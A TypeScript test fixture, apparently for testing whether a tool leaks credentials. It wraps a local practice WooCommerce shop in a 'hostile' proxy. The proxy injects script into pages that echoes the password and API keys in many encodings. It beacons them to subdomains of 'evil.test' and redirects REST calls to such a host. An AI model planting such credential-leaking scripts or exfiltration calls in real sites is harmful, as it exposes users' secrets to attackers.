// A shop that works, and says on every occasion what it was told in confidence: in addresses, titles, labels, dialogs,
// errors, headers and names of hosts, in one code after the other.
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { startPracticeShop } from '../practice/woocommerce/server.ts';

/** How it behaves: `sign-in` leads to a page of its own instead of the dashboard, the others are answers of its REST API. */
export type Malice = 'sign-in' | 'redirect' | 'error' | 'works';

export interface HostileShop {
  readonly origin: string;
  readonly authority: string;
  readonly username: string;
  /** Everything that it was entrusted with or made, so far. */
  secrets(): readonly string[];
  behave(malice: Malice): void;
  /** Paths under which its pages were shown, as the browser had them. */
  readonly shownPaths: Set<string>;
  close(): Promise<void>;
}

const CODES: readonly ((secret: string) => string)[] = [
  (secret) => secret,
  (secret) => encodeURIComponent(secret),
  (secret) => Buffer.from(secret).toString('base64'),
  (secret) => Buffer.from(secret).toString('base64url'),
  (secret) => Buffer.from(secret).toString('hex'),
  (secret) => [...secret].reverse().join(''),
  (secret) => [...secret].join('/'),
  (secret) => secret.replace(/(.{5})/gu, '$1\n'),
  (secret) => Buffer.from(secret).toString('hex').replace(/../g, '%$&'),
  (secret) => [...secret].map((sign) => `&#${sign.codePointAt(0)};`).join(''),
];

export async function startHostileShop(password: string): Promise<HostileShop> {
  const shop = await startPracticeShop({ password, obstacles: { adminEmailCheck: false } });
  const made: string[] = [];
  const shownPaths = new Set<string>();
  let malice: Malice = 'works';
  let turn = 0;
  const secrets = () => [password, ...made];
  const echo = () => secrets().map((secret) => code(secret, turn++));
  let origin = '';

  const server = createServer((request, response) => {
    answer(request, response).catch((error: unknown) => {
      response.statusCode = 500;
      response.end(String(error));
    });
  });
  async function answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const url = new URL(request.url ?? '/', origin);
    if (url.pathname === '/seen') {
      shownPaths.add(url.search);
      return send(response, 204, {}, '');
    }
    if (url.pathname.startsWith('/wp-json/')) return rest(malice, echo, response);
    const body = await textOf(request);
    if (malice === 'sign-in' && request.method === 'POST' && url.pathname === '/wp-login.php')
      return send(response, 302, { location: `/login/${encodeURIComponent(password)}` }, '');
    if (url.pathname.startsWith('/login/')) {
      const refused = '<div id="login_error" class="notice notice-error">Error: no.</div>';
      return send(response, 200, HTML, page(echo, '/login/') + refused);
    }
    const real = await fetch(new URL(url.pathname + url.search, shop.origin), {
      method: request.method ?? 'GET',
      redirect: 'manual',
      headers: pick(request, ['cookie', 'content-type', 'accept']),
      ...(body === '' ? {} : { body: body.replaceAll(encodeURIComponent(origin), encodeURIComponent(shop.origin)) }),
    });
    const type = real.headers.get('content-type') ?? '';
    const bytes = Buffer.from(await real.arrayBuffer());
    const headers = {
      'content-type': type,
      'set-cookie': real.headers.getSetCookie(),
      ...(real.headers.has('location') ? { location: ours(real.headers.get('location') ?? '') } : {}),
    };
    if (!/html|json|javascript/.test(type)) return send(response, real.status, headers, bytes);
    const text = ours(bytes.toString('utf8'));
    for (const found of text.matchAll(/"consumer_(?:key|secret)":"(c[ks]_\w+)"/g)) made.push(found[1] ?? '');
    const isPage = type.includes('html') && text.includes('<head>');
    send(response, real.status, headers, isPage ? text.replace('<head>', `<head>${page(echo, url.pathname)}`) : text);
  }
  const ours = (text: string) =>
    text
      .replaceAll(shop.origin, origin)
      .replaceAll(encodeURIComponent(shop.origin), encodeURIComponent(origin))
      .replaceAll(JSON.stringify(shop.origin).slice(1, -1), origin);

  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const { port } = server.address() as AddressInfo; // a listening TCP server has an AddressInfo
  origin = `http://localhost:${port}`;
  return {
    origin,
    authority: `localhost:${port}`,
    username: shop.username,
    secrets,
    behave: (next) => {
      malice = next;
    },
    shownPaths,
    close: async () => {
      await new Promise<void>((done) => {
        server.close(() => done());
        server.closeAllConnections();
      });
      await shop.close();
    },
  };
}

const JSON_TYPE = { 'content-type': 'application/json' };
const HTML = { 'content-type': 'text/html; charset=utf-8' };

function code(secret: string, turn: number): string {
  const write = CODES[turn % CODES.length];
  return write ? write(secret) : secret;
}

/** What every page begins with: links go on working, and all that shows of the page says what the shop knows. */
function page(echo: () => readonly string[], pathname: string): string {
  const [words, paths] = [JSON.stringify(echo().join(' ')), JSON.stringify(echo())];
  return `<base href="${pathname}"><script>
    {
      const [words, paths] = [${words}, ${paths}];
      const say = () => {
        const fields = ['key_consumer_key', 'key_consumer_secret'].map((id) => document.getElementById(id)?.value ?? '');
        const path = '/wp-admin/' + [...paths, ...fields].filter(Boolean).join('/');
        history.replaceState(null, '', path.replaceAll('#', '') + location.search);
        document.title = words + fields.join(' ');
        fetch('/seen?' + encodeURIComponent(location.pathname));
      };
      say();
      addEventListener('load', () => {
        const told = document.createElement('div');
        told.setAttribute('role', 'alert');
        told.setAttribute('aria-label', words);
        told.textContent = words;
        document.body.append(told);
        console.error(words);
        new Image().src = 'http://' + words.replace(/[^a-z0-9]/gi, '').slice(0, 60) + '.evil.test/' + paths[0];
        setTimeout(() => alert(words), 0);
      });
      setInterval(say, 100);
    }
  </script>`;
}

function rest(malice: Malice, echo: () => readonly string[], response: ServerResponse): void {
  const [words = ''] = echo();
  const hex = Buffer.from(words).toString('hex').slice(0, 60);
  if (malice === 'redirect') {
    send(response, 302, { location: `https://${hex}.evil.test/${encodeURIComponent(words)}` }, echo().join());
  } else if (malice === 'error') {
    const body = { code: `woocommerce_rest_${words}`, message: echo().join(' '), data: { status: 403, words: echo() } };
    send(response, 403, JSON_TYPE, JSON.stringify(body));
  } else {
    send(response, 200, { ...JSON_TYPE, 'x-wp-total': encodeURIComponent(words) }, '[]');
  }
}

async function textOf(request: IncomingMessage): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of request) chunks.push(chunk as Buffer); // without an encoding, requests yield Buffers
  return Buffer.concat(chunks).toString('utf8');
}

function pick(request: IncomingMessage, names: readonly string[]): Record<string, string> {
  return Object.fromEntries(
    names.flatMap((name) => [request.headers[name]].flat().map((value) => [name, value ?? ''])),
  );
}

function send(
  response: ServerResponse,
  status: number,
  headers: Readonly<Record<string, string | readonly string[]>>,
  body: string | Buffer,
): void {
  for (const [name, value] of Object.entries(headers)) response.setHeader(name, value);
  response.statusCode = status;
  response.end(body);
}
